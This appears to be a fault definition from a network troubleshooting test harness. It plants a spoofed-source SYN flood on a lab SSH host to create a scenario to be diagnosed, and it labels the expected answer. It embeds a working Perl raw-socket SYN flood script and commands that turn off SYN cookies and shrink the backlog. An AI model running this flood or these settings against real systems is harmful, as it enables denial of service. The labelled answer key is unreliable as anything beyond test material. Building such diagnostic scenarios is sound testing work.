import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Fault } from '../../fault.ts';

// SYNs from addresses that nobody has: nothing ever answers what the server says to them.
const flood = `use Socket;
socket(my $raw, AF_INET, SOCK_RAW, 255) or die;
setsockopt($raw, 0, 3, pack('i', 1));
my $to = pack_sockaddr_in(0, inet_aton('10.71.2.20'));
sub sum { my $s = unpack('%32n*', $_[0]); $s = ($s & 0xffff) + ($s >> 16) while $s >> 16; ~$s & 0xffff }
for (my $i = 0; ; $i++) {
  my ($from, $dest) = (inet_aton('10.9.' . ($i / 250 % 250) . '.' . (1 + $i % 250)), inet_aton('10.71.2.20'));
  my $tcp = pack('nnNNCCnnn', 1024 + $i % 60000, 22, $i, 0, 0x50, 2, 8192, 0, 0);
  substr($tcp, 16, 2) = pack('n', sum($from . $dest . pack('nn', 6, 20) . $tcp));
  send($raw, pack('CCnnnCCna4a4', 0x45, 0, 40, $i & 0xffff, 0, 64, 6, 0, $from, $dest) . $tcp, 0, $to);
  select(undef, undef, undef, 0.02);
}
`;

export const fault: Fault = {
  id: 'syn-flood-spoofed',
  title: 'a flood of SYNs from addresses that nobody has, at a host that a tuning guide told to do without cookies',
  releases: ['bullseye'],
  truth: { causes: ['syn-flood'], stage: 'tcp', outcome: 'confirmed' },
  clientSettles: false,
  breakIt: async (host, net) => {
    const set = 'sysctl -qw net.ipv4.tcp_syncookies=0 net.ipv4.tcp_max_syn_backlog=64 net.ipv4.tcp_synack_retries=5';
    await host.exec(`unshare -m sh -c 'mount -t proc proc /proc && ${set}'`);
    await host.exec(
      'logger -t sshd -p auth.info "drop connection #10 from [203.0.113.9]:4711 on [10.71.2.20]:22 past MaxStartups"',
    );
    writeFileSync(join(net.state, 'flood.pl'), flood);
    await net.router.exec('ip route add blackhole 10.9.0.0/16');
    await net.router.start(`perl ${join(net.state, 'flood.pl')}`);
    await host.exec('until [ $(ss -Htn state syn-recv | wc -l) -ge 48 ]; do sleep 0.1; done');
  },
};
